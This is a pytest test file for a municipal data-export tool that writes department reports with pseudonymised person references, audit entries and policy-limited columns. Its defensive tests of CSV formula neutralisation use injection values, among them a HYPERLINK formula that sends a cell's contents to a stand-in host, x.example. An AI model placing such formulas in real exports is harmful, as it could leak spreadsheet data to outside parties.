"""Department exports: files, formats, determinism, pseudonyms, identifiers, audit (issue #7, #5)."""

from __future__ import annotations

import datetime as dt
import json
import zipfile

import duckdb
import pyarrow.parquet as pq
import pytest

from islandbridge.delivery.export import ExportError, export_day, export_run, neutralise
from islandbridge.privacy.audit import AuditLog
from islandbridge.privacy.keys import load_keys
from islandbridge.privacy.pseudonymise import person_refs
from tests.exports.support import AS_OF, DAY, P1, P3, P4, RUN_ID, VALUES, read_csv_rows

REPORTS = {
    "grid_centre": ["elderly_alerts", "no_device_coverage"],
    "civil_affairs": ["senior_allowance_gaps", "subsidy_after_exit", "unmatched_roster_rows"],
    "street_office": ["island_coverage", "incidents_by_building"],
}
POLICY_VERSIONS = {"grid_centre": 3, "civil_affairs": 4, "street_office": 4}


def clock_at(hour: int):
    return lambda: dt.datetime(2026, 11, 21, hour, tzinfo=dt.UTC)


def day_dir(settings, department):
    return settings.exports_dir / department / DAY


def files(folder):
    return {p.relative_to(folder): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def rows_of(settings, department, report):
    """The CSV as dictionaries, header taken from the file."""
    header, *rows = read_csv_rows(day_dir(settings, department) / f"{report}.csv")
    return [dict(zip(header, row, strict=True)) for row in rows]


def ref(settings, department, person_key):
    keys = load_keys(settings.keys, departments=[department])
    return person_refs(keys.department(department), [person_key]).to_pylist()[0]


@pytest.fixture
def exported(settings, con):
    return export_run(settings, con, AS_OF, RUN_ID, clock=clock_at(1))


def test_each_department_gets_csv_parquet_xlsx_and_manifest_per_report(settings, exported):
    for department, reports in REPORTS.items():
        names = sorted(p.name for p in day_dir(settings, department).iterdir())
        expected = ["manifest.json", *(f"{r}.{ext}" for r in reports for ext in ("csv", "parquet", "xlsx"))]
        assert names == sorted(expected)


def test_manifest_names_each_file_with_rows_and_sha256(settings, exported):
    import hashlib

    for department in REPORTS:
        folder = day_dir(settings, department)
        manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
        assert (manifest["run_id"], manifest["department"], manifest["day"]) == (RUN_ID, department, DAY)
        assert (
            manifest["policy"]["version"] == POLICY_VERSIONS[department]
            and len(manifest["policy"]["sha256"]) == 64
        )
        for entry in manifest["files"]:
            data = (folder / entry["name"]).read_bytes()
            assert entry["sha256"] == hashlib.sha256(data).hexdigest() and entry["bytes"] == len(data)
            assert entry["rows"] == pq.read_table(folder / f"{entry['report']}.parquet").num_rows
        rows = {e["report"]: e["rows"] for e in manifest["files"]}
        assert rows == exported["departments"][department]["reports"]


def test_folder_is_the_date_of_as_of_in_shanghai():
    assert export_day(dt.datetime(2026, 11, 20, 16, 0, tzinfo=dt.UTC)) == "2026-11-21"
    assert export_day(dt.datetime(2026, 11, 20, 15, 59, tzinfo=dt.UTC)) == "2026-11-20"


def test_csv_is_utf8_with_bom_and_crlf_line_ends(settings, exported):
    data = (day_dir(settings, "grid_centre") / "elderly_alerts.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfperson_ref,name,phone,address,community,age,")
    assert data.count(b"\r\n") == 4 and data.replace(b"\r\n", b"").count(b"\n") == 0
    assert "凤鸣苑1栋1单元101室" in data.decode("utf-8-sig")


def test_csv_and_parquet_hold_the_same_cells(settings, exported):
    for department, reports in REPORTS.items():
        for report in reports:
            table = pq.read_table(day_dir(settings, department) / f"{report}.parquet")
            csv_rows = rows_of(settings, department, report)
            assert table.column_names == list(csv_rows[0]) if csv_rows else True
            for column in table.column_names:
                if table.schema.field(column).type == "string":
                    parquet_cells = [v or "" for v in table.column(column).to_pylist()]
                    assert [r[column] for r in csv_rows] == parquet_cells


def test_rows_follow_the_policy_order(settings, exported):
    silent = [r["hours_silent"] for r in rows_of(settings, "grid_centre", "elderly_alerts")]
    assert silent == ["", "72.0", "50.5"]  # never seen first, then longest silent
    assert [r["roster_row"] for r in rows_of(settings, "civil_affairs", "subsidy_after_exit")] == ["33", "88"]


def test_rerun_with_same_as_of_is_byte_identical_except_made_at_and_the_audit_anchor(settings, con, exported):
    before = files(settings.exports_dir)
    export_run(settings, con, AS_OF, RUN_ID, clock=clock_at(5))
    after = files(settings.exports_dir)
    assert set(before) == set(after)
    for path, data in before.items():
        if path.name != "manifest.json":
            assert after[path] == data, path
            continue
        old, new = json.loads(data), json.loads(after[path])
        assert old.pop("made_at") != new.pop("made_at")
        assert old.pop("audit")["entries"] <= new.pop("audit")["entries"], "the re-run's entries follow"
        assert old == new


def test_rerun_replaces_the_day_exactly(settings, con, exported):
    stray = day_dir(settings, "grid_centre") / "stray.csv"
    stray.write_text("left behind", encoding="utf-8")
    export_run(settings, con, AS_OF, RUN_ID, clock=clock_at(5))
    assert not stray.exists()
    assert [p.name for p in (settings.exports_dir / "grid_centre").iterdir()] == [DAY]  # no stage left


def test_person_ref_is_stable_across_runs_and_differs_between_departments(settings, con, exported):
    grid = {r["name"]: r["person_ref"] for r in rows_of(settings, "grid_centre", "elderly_alerts")}
    civil = {r["name"]: r["person_ref"] for r in rows_of(settings, "civil_affairs", "senior_allowance_gaps")}
    assert grid["张小伟"] == ref(settings, "grid_centre", P1) and grid["张小伟"].startswith("gc_")
    assert civil["张小伟"] == ref(settings, "civil_affairs", P1) and civil["张小伟"].startswith("ca_")
    assert grid["张小伟"][3:] != civil["张小伟"][3:]
    con.close()
    with duckdb.connect(str(settings.warehouse_path)) as rw:
        rw.execute("UPDATE meta.marts_current SET run_id = 'ib_next'")  # the marts as built for the next day
        export_run(settings, rw, AS_OF + dt.timedelta(days=1), "ib_next", clock=clock_at(6))
    later = rows_of_day(settings, "grid_centre", "elderly_alerts", "2026-11-22")
    assert {r["name"]: r["person_ref"] for r in later} == grid


def test_an_older_day_is_not_exported_from_marts_built_for_a_newer_one(settings, con, exported):
    """After the marts are built for the next day, exporting the first day again is refused and its
    folder keeps the lists that were made for it."""
    before = files(settings.exports_dir)
    con.close()
    with duckdb.connect(str(settings.warehouse_path)) as rw:
        rw.execute("UPDATE meta.marts_current SET run_id = 'ib_next'")
        with pytest.raises(ExportError, match=r"marts hold run ib_next, not run ib_20261120T160000Z"):
            export_run(settings, rw, AS_OF, RUN_ID, clock=clock_at(7))
    assert files(settings.exports_dir) == before


def test_a_refused_export_advises_the_sync_that_islandbridge_runs_advises(settings, con, exported):
    """`export --as-of D` of a day the marts were not built for advised `islandbridge build` with the same
    as-of, which refuses a day whose identities are not the newest: it advises the command `islandbridge
    runs` gives for an unfinished day (`sync --as-of D`), which does complete it."""
    from islandbridge.delivery.run_steps import describe_steps

    con.close()
    with duckdb.connect(str(settings.warehouse_path)) as rw:
        rw.execute("UPDATE meta.marts_current SET run_id = 'ib_next'")
        with pytest.raises(ExportError) as refused:
            export_run(settings, rw, AS_OF, RUN_ID, clock=clock_at(7))
    advice = describe_steps(dict.fromkeys(("reconciled", "built", "exported", "published"), False), AS_OF)
    command = advice.split("run `", 1)[1].split("`", 1)[0]
    assert command == "islandbridge sync --as-of 2026-11-20"
    assert f"run `{command}`" in str(refused.value) and "islandbridge build" not in str(refused.value)


def test_a_day_is_not_published_for_analysts_from_marts_built_for_another(settings, con):
    """`snapshot publish --as-of D` (pipeline.publish) after the marts were built for another day is refused:
    it published a snapshot named D's run holding the other day's reports."""
    from islandbridge import pipeline
    from islandbridge.warehouse.marts import MartBuildError

    con.close()
    with duckdb.connect(str(settings.warehouse_path)) as rw:
        rw.execute("UPDATE meta.marts_current SET run_id = 'ib_next'")
    with pytest.raises(
        MartBuildError, match=r"marts hold run ib_next, not run ib_20261120T160000Z.*nothing was"
    ):
        pipeline.publish(settings, AS_OF)
    assert not settings.snapshots_dir.exists() or not any(settings.snapshots_dir.iterdir())


def as_read(path) -> bytes:
    """What a reader of the file sees: an xlsx's XML inflated, a Parquet file's schema and values.

    Their bytes on disk are compressed, and compressed random pseudonyms are random bytes: ``pk_`` turns
    up in the ~4 KB of them an export holds about once in 4,000 runs."""
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as book:
            return b"".join(book.read(name) for name in book.namelist())
    if path.suffix == ".parquet":
        table = pq.read_table(path)
        schema = table.schema.to_string(show_schema_metadata=True, truncate_metadata=False)
        return (schema + json.dumps(table.to_pylist(), default=str, ensure_ascii=False)).encode()
    return path.read_bytes()


def rows_of_day(settings, department, report, day):
    header, *rows = read_csv_rows(settings.exports_dir / department / day / f"{report}.csv")
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_no_person_key_in_any_export(settings, exported):
    for path in settings.exports_dir.rglob("*.*"):
        assert b"pk_" not in as_read(path), path
    unmatched = pq.read_table(day_dir(settings, "civil_affairs") / "unmatched_roster_rows.parquet")
    assert "person_key" not in unmatched.schema.names


def test_identifiers_come_from_the_vault_by_the_pick_rule(settings, exported):
    p1 = next(
        r
        for r in rows_of(settings, "grid_centre", "elderly_alerts")
        if r["person_ref"].endswith(ref(settings, "grid_centre", P1)[3:])
    )
    assert p1["name"] == "张小伟"  # registry beats civil affairs; t_jm:100010 is newer than t_jm:99999
    assert p1["phone"] == "13800138000"  # the registry's phone is a placeholder: the grid platform's, cleaned
    gap = {r["name"]: r for r in rows_of(settings, "civil_affairs", "senior_allowance_gaps")}
    assert gap["张小伟"]["id_number"] == "511403194510310077" and gap["张小伟"]["birth_date"] == "1945-10-31"
    assert gap["钱七"]["id_number"] == "51142119440427524X"  # the export's leading apostrophe is gone
    assert gap["钱七"]["birth_date"] == "1944-04"  # a roster knows the month only
    exits = {r["roster_row"]: r for r in rows_of(settings, "civil_affairs", "subsidy_after_exit")}
    assert exits["33"]["name"] == "赵六"  # padding inside a name removed
    assert exits["33"]["id_number"] == "511421199105155128"  # the registry's Excel-damaged ID is never shown
    coverage = rows_of(settings, "grid_centre", "no_device_coverage")
    assert coverage[0]["person_ref"] == ref(settings, "grid_centre", P4) and coverage[0]["phone"] == ""


def test_grid_centre_receives_why_a_row_is_to_check_and_the_age_lower_bound(settings, exported):
    alerts = {r["age"]: r for r in rows_of(settings, "grid_centre", "elderly_alerts")}
    assert alerts["90"]["check_reason"] == "是否独居不详：户籍未登记其住房"
    assert alerts["77"]["check_reason"] == ""  # every condition settled from data: nothing to check
    (coverage,) = rows_of(settings, "grid_centre", "no_device_coverage")
    assert (coverage["age"], coverage["age_at_least"], coverage["check_reason"]) == ("", "80", "")


def test_only_policy_columns_are_exported(settings, exported):
    text = "".join(p.read_bytes().decode("utf-8", "replace") for p in settings.exports_dir.rglob("*.csv"))
    assert "6217003810012345678" not in text  # bank card: in the vault, in no policy
    grid = (day_dir(settings, "grid_centre") / "elderly_alerts.csv").read_text(encoding="utf-8-sig")
    assert "511403194510310077" not in grid  # the grid centre never gets ID numbers
    civil = "".join(
        (day_dir(settings, "civil_affairs") / f"{r}.csv").read_text(encoding="utf-8-sig")
        for r in REPORTS["civil_affairs"]
    )
    assert "13800138000" not in civil and "13700137000" not in civil  # civil affairs never gets phones


@pytest.mark.parametrize("text", ["=1+2", "+86", "-观音社区", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_formula_leads(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["凤鸣社区", "a=b", "'=1", "", None, "<5"])
def test_neutralise_leaves_other_text_alone(text):
    assert neutralise(text) == text


def test_formula_cells_are_neutralised_in_csv_and_parquet(settings, exported):
    rows = {r["age"]: r for r in rows_of(settings, "grid_centre", "elderly_alerts")}
    assert rows["90"]["name"] == "'=王五"  # from the vault
    assert rows["90"]["address"] == '\'=HYPERLINK("http://x.example/?q="&A1)'  # from the mart
    assert rows["90"]["community"] == "'+长寿社区" and rows["90"]["phone"] == "13900139000"
    assert rows["77"]["address"].startswith("'\t") and rows["77"]["community"] == "'-观音社区"
    assert rows_of(settings, "grid_centre", "no_device_coverage")[0]["address"].startswith("'@")
    table = pq.read_table(day_dir(settings, "grid_centre") / "elderly_alerts.parquet")
    assert "'=王五" in table.column("name").to_pylist()
    amounts = [r["amount_yuan"] for r in rows_of(settings, "civil_affairs", "subsidy_after_exit")]
    assert amounts == ["-3277.50", "100.00"]  # numbers are not text: shown as numbers


def test_small_person_counts_are_suppressed_for_the_street_office(settings, exported):
    rows = {r["community"]: r for r in rows_of(settings, "street_office", "island_coverage")}
    assert rows["长寿社区"] == {
        "community": "长寿社区",
        "persons_known": "<5",
        "in_registry": "<5",
        "in_grid": "5",
        "in_civil": "<5",
        "in_iot": "<5",
        "in_two_or_more": "<5",
        "in_all_four": "<5",
    }
    assert rows["凤鸣社区"]["persons_known"] == "120" and rows["凤鸣社区"]["in_all_four"] == "5"
    table = pq.read_table(day_dir(settings, "street_office") / "island_coverage.parquet")
    assert str(table.schema.field("persons_known").type) == "string"
    assert table.column("in_civil").to_pylist() == ["<5", "<5", "<5"]
    incidents = rows_of(settings, "street_office", "incidents_by_building")
    assert [r["incidents"] for r in incidents] == ["1", "3"]  # incidents are not persons: not suppressed
    assert incidents[0]["month"] == "2026-10-01" and incidents[0]["estate"] == "凤鸣苑"


def test_a_row_of_persons_without_a_community_is_labelled_not_blank(settings, exported):
    """The mart's NULL community (persons of no known house) reaches the clerk as 社区不明, in every file."""
    rows = rows_of(settings, "street_office", "island_coverage")
    assert [r["community"] for r in rows] == ["凤鸣社区", "长寿社区", "社区不明"]
    assert rows[-1]["persons_known"] == "11"
    table = pq.read_table(day_dir(settings, "street_office") / "island_coverage.parquet")
    assert table.column("community").to_pylist()[-1] == "社区不明"


def test_times_are_shown_in_shanghai_time_to_the_second(settings, exported):
    rows = {r["age"]: r for r in rows_of(settings, "grid_centre", "elderly_alerts")}
    assert rows["81"]["last_door_access_at"] == "2026-11-18 08:00:00"
    assert rows["77"]["last_door_access_at"] == "2026-11-19 05:30:00"
    table = pq.read_table(day_dir(settings, "grid_centre") / "elderly_alerts.parquet")
    assert str(table.schema.field("last_door_access_at").type) == "timestamp[us, tz=Asia/Shanghai]"
    assert table.column("last_door_access_at")[2].as_py().microsecond == 123000  # Parquet keeps the fraction


def test_without_order_by_the_marts_own_order_is_kept(settings):
    with duckdb.connect(str(settings.warehouse_path)) as rw:
        rw.execute(
            "CREATE OR REPLACE TABLE marts.senior_allowance_gaps AS "
            "SELECT * FROM marts.senior_allowance_gaps ORDER BY age DESC"
        )
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as con:
        export_run(settings, con, AS_OF, RUN_ID)
    assert [r["age"] for r in rows_of(settings, "civil_affairs", "senior_allowance_gaps")] == ["84", "81"]


def test_one_audit_entry_per_report_that_revealed_identifiers(settings, exported):
    log = AuditLog(settings.audit_path)
    entries = list(log.entries())
    assert [e.purpose for e in entries] == [
        "export civil_affairs/senior_allowance_gaps",
        "export civil_affairs/subsidy_after_exit",
        "export grid_centre/elderly_alerts",
        "export grid_centre/no_device_coverage",
    ]
    by_purpose = {e.purpose: e for e in entries}
    alerts = by_purpose["export grid_centre/elderly_alerts"]
    assert alerts.actor == "islandbridge-exporter" and alerts.department == "grid_centre"
    assert alerts.columns == ("name", "phone")
    exported_refs = {r["person_ref"] for r in rows_of(settings, "grid_centre", "elderly_alerts")}
    assert set(alerts.person_refs) == exported_refs
    gaps = by_purpose["export civil_affairs/senior_allowance_gaps"]
    assert gaps.columns == ("name", "id_number", "birth_date")
    assert set(gaps.person_refs) == {ref(settings, "civil_affairs", P1), ref(settings, "civil_affairs", P4)}
    assert log.verify().ok and exported["audit_head"] == log.head()
    text = settings.audit_path.read_text(encoding="utf-8")
    assert not [v for v in VALUES if v in text]  # who and which columns, never the values


def test_each_run_is_audited_again(settings, con, exported):
    export_run(settings, con, AS_OF, RUN_ID, clock=clock_at(5))
    assert len(list(AuditLog(settings.audit_path).entries())) == 8


def test_return_value_holds_counts_and_paths_only(settings, exported):
    text = json.dumps(exported, ensure_ascii=False)
    assert not [v for v in VALUES if v in text]
    assert "pk_" not in text and "gc_" not in text and "ca_" not in text
    assert exported["departments"]["grid_centre"] == {
        "path": str(day_dir(settings, "grid_centre").resolve()),
        "policy_version": 3,
        "reports": {"elderly_alerts": 3, "no_device_coverage": 1},
        "audit_entries": 2,
    }


def test_logs_carry_no_identifiers(settings, con, caplog):
    with caplog.at_level("DEBUG"):
        export_run(settings, con, AS_OF, RUN_ID, clock=clock_at(1))
    assert caplog.records and not [v for v in VALUES if v in caplog.text]
    assert P3 not in caplog.text


def test_export_files_are_not_world_readable(settings, exported):
    for path in day_dir(settings, "civil_affairs").iterdir():
        assert path.stat().st_mode & 0o007 == 0, path
